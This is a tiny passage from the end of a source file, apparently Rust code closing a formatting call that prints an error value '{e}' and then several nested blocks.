            "{e}"
        );
    }
}
